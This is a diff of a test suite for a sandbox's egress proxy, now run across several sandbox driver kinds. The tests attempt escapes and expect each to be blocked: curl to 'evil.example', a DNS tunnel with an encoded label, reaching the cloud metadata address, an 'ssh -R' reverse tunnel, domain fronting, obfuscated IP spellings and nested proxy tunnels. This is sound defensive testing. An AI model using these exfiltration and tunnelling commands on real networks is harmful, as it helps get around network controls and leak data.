@@ -2,12 +2,15 @@ import { createServer as createUnix } from 'node:net';
 import { createServer as createPlain } from 'node:http';
 import { createSocket } from 'node:dgram';
 import { WebSocketServer } from 'ws';
-import { describe, expect, it, onTestFinished } from 'vitest';
-import { isolationMissing } from '../support/sandbox.ts';
+import { describe, expect, it, onTestFinished, vi } from 'vitest';
+import type { DriverKind } from '../../src/sandbox/driver.ts';
+import { isolatingKinds } from '../support/sandbox.ts';
 import { startLimited } from '../support/limited.ts';
 import { bodyOf, listen, OutsideWorld } from '../support/outside-world.ts';
 
-const isolation = isolationMissing() === null;
+vi.setConfig({ testTimeout: 60_000 });
+
+const kinds = isolatingKinds();
 
 const [ALLOWED, EVIL, FRONTED] = ['packages.example', 'evil.example', 'fronted.example'];
 const [ALLOWED_AT, EVIL_AT] = ['93.184.216.1', '93.184.216.66'];
@@ -27,9 +30,9 @@ async function makeWorld() {
   return { world, stolen };
 }
 
-async function limited() {
+async function limited(kind: DriverKind) {
   const made = await makeWorld();
-  const workspace = await startLimited(made.world, { hosts: [ALLOWED] });
+  const workspace = await startLimited(made.world, { hosts: [ALLOWED] }, { kind });
   return { ...made, ...workspace };
 }
 
@@ -44,9 +47,9 @@ const speak = (...said: string[]) =>
   );
 const connectTo = (place: string) => `CONNECT ${place} HTTP/1.1\r\nHost: ${place}\r\n\r\n`;
 
-describe.runIf(isolation)('what is let through', () => {
+describe.each(kinds)('what is let through, in a %s sandbox', (kind) => {
   it('is the hosts that are listed, over HTTP and TLS, and what went there is counted', async () => {
-    const { run, wayOut, told } = await limited();
+    const { run, wayOut, told } = await limited(kind);
     expect(await run(`curl -sS http://${ALLOWED}/one -d hello`)).toBe(`allowed ${ALLOWED} hello`);
     expect(await run(`curl -sSk https://${ALLOWED}/two`)).toBe('allowed over TLS /two');
     wayOut.close();
@@ -70,10 +73,10 @@ describe.runIf(isolation)('what is let through', () => {
   });
 });
 
-describe.runIf(isolation)('there is no network but the proxy', () => {
+describe.each(kinds)('there is no network but the proxy, in a %s sandbox', (kind) => {
   it('for raw TCP, UDP and ICMP, to the internet, the machine, or the metadata service', async () => {
     const port = await listen(createPlain((_request, response) => response.end('the machine')));
-    const { run } = await limited();
+    const { run } = await limited(kind);
     const output = await run(
       python(`
 for place in [('93.184.216.66',80),('127.0.0.1',${port}),('10.0.0.1',22),('169.254.169.254',80)]:
@@ -95,7 +98,7 @@ except OSError as e: print('no', e.errno)`),
     const resolver = createSocket('udp4', (message) => heard.push(message.toString('latin1')));
     await new Promise<void>((resolve) => resolver.bind(0, '127.0.0.1', resolve));
     onTestFinished(() => void resolver.close());
-    const { run, world } = await limited();
+    const { run, world } = await limited(kind);
     const output = await run(
       python(`
 for name in ['c2VjcmV0.tunnel.evil.example','${ALLOWED}']:
@@ -119,22 +122,22 @@ except OSError as e: print('no')`),
     const server = createUnix((socket) => socket.end('the machine'));
     await new Promise<void>((resolve) => server.listen(name, resolve));
     onTestFinished(() => void server.close());
-    const { run } = await limited();
+    const { run } = await limited(kind);
     const attempt = `s=socket.socket(socket.AF_UNIX)\ntry:\n    s.connect('\\0gatehouse-test-${process.pid}'); print(s.recv(99))\nexcept OSError as e: print('no')`;
     expect(await run(python(attempt))).toBe('no');
   });
 
   it('for the runner’s sockets: what is there is the proxies, and can’t be replaced', async () => {
-    const { run } = await limited();
+    const { run } = await limited(kind);
     expect(
       await run('ls /run/gatehouse | tr "\\n" " "; rm -f /run/gatehouse/web.sock; touch /run/gatehouse/x; ls /run/gatehouse | wc -l'),
     ).toMatch(/^git.sock web.sock [\s\S]*\n2$/);
   });
 });
 
-describe.runIf(isolation)('the web proxy refuses', () => {
+describe.each(kinds)('the web proxy refuses, in a %s sandbox', (kind) => {
   it('a host that is not listed, says so in words, and tells it once a minute with a count', async () => {
-    const { run, stolen, told, notices, clock, world } = await limited();
+    const { run, stolen, told, notices, clock, world } = await limited(kind);
     const hint = `Blocked by your organisation’s egress policy: host ${EVIL}. It is not on the list of hosts. Ask an administrator of the template if you need it.`;
     expect(await run(`curl -sS http://${EVIL}/a`)).toBe(hint);
     expect(await run(`curl -sS https://${EVIL}/b 2>&1`)).toContain('403');
@@ -149,7 +152,7 @@ describe.runIf(isolation)('the web proxy refuses', () => {
   });
 
   it('a client that opens a tunnel as `code tunnel` does: TLS and a WebSocket to a relay', async () => {
-    const { run, stolen, told } = await limited();
+    const { run, stolen, told } = await limited(kind);
     expect(await run(speak(connectTo(`global.rel.tunnels.${EVIL}:443`)))).toMatch(/^HTTP\/1.1 403/);
     expect(await run(`curl -sSk -H "Connection: Upgrade" -H "Upgrade: websocket" https://${EVIL}/ws 2>&1`)).toContain('403');
     expect(told.all.map((each) => each.what === 'refused' && each.host)).toEqual([`global.rel.tunnels.${EVIL}`, EVIL]);
@@ -157,7 +160,7 @@ describe.runIf(isolation)('the web proxy refuses', () => {
   });
 
   it('`ssh -R`, directly and through the proxy, also where the host is listed', async () => {
-    const { run, told, world } = await limited();
+    const { run, told, world } = await limited(kind);
     const ssh = 'ssh -o StrictHostKeyChecking=no -o BatchMode=yes -o ConnectTimeout=5 -N -R 9000:localhost:22';
     expect(await run(`${ssh} dev@${EVIL_AT} 2>&1`)).toMatch(/unreachable/i);
     const through = `-o ProxyCommand='python3 -c "import socket,sys,threading,os
@@ -175,7 +178,7 @@ s.sendall(b\\"SSH-2.0-x\\\\r\\\\n\\"); sys.stderr.write(repr(s.recv(99)))"'`;
     const sockets = new WebSocketServer({ server: plain });
     sockets.on('connection', (socket, request) => socket.send(`hello from ${request.headers.host}`));
     made.world.at(ALLOWED_AT, 80, await listen(plain));
-    const { run, told } = await startLimited(made.world, { hosts: [ALLOWED] });
+    const { run, told } = await startLimited(made.world, { hosts: [ALLOWED] }, { kind });
     const upgrade = (host: string, at = host) =>
       `GET http://${at}/ HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`;
     expect(await run(speak(upgrade(EVIL)))).toMatch(/^HTTP\/1.1 403/);
@@ -188,7 +191,7 @@ s.sendall(b\\"SSH-2.0-x\\\\r\\\\n\\"); sys.stderr.write(repr(s.recv(99)))"'`;
   });
 
   it('domain fronting: TLS that names another host or none, and a Host that is another one', async () => {
-    const { run, told, stolen } = await limited();
+    const { run, told, stolen } = await limited(kind);
     const tls = (name: string) =>
       python(`
 s=socket.create_connection(('127.0.0.1',3128),5); s.sendall(b${JSON.stringify(connectTo(`${ALLOWED}:443`))}); print(s.recv(99).split(b' ')[1])
@@ -215,7 +218,7 @@ except OSError as e: print('cut')`);
   });
 
   it('addresses in numbers, however they are written', async () => {
-    const { run, world, stolen } = await limited();
+    const { run, world, stolen } = await limited(kind);
     const spellings = [
       EVIL_AT,
       '1572395074',
@@ -236,7 +239,7 @@ except OSError as e: print('cut')`);
   }, 60_000);
 
   it('names that lead into private networks, to the machine or the metadata service, now or at the next look', async () => {
-    const { run, world, told } = await limited();
+    const { run, world, told } = await limited(kind);
     const inside = [
       '10.0.0.5',
       '192.168.1.1',
@@ -268,7 +271,7 @@ except OSError as e: print('cut')`);
   }, 60_000);
 
   it('proxies behind proxies: a tunnel in a tunnel, and an absolute address in one', async () => {
-    const { run, stolen } = await limited();
+    const { run, stolen } = await limited(kind);
     const inner = (request: string) => run(speak(connectTo(`${ALLOWED}:80`), request));
     expect(await inner(connectTo(`${EVIL}:443`))).toMatch(/HTTP\/1.1 403[\s\S]*tunnel in a tunnel/);
     expect(await inner(`GET http://${EVIL}/ HTTP/1.1\r\nHost: ${EVIL}\r\n\r\n`)).toMatch(/HTTP\/1.1 403[\s\S]*proxy behind a host/);
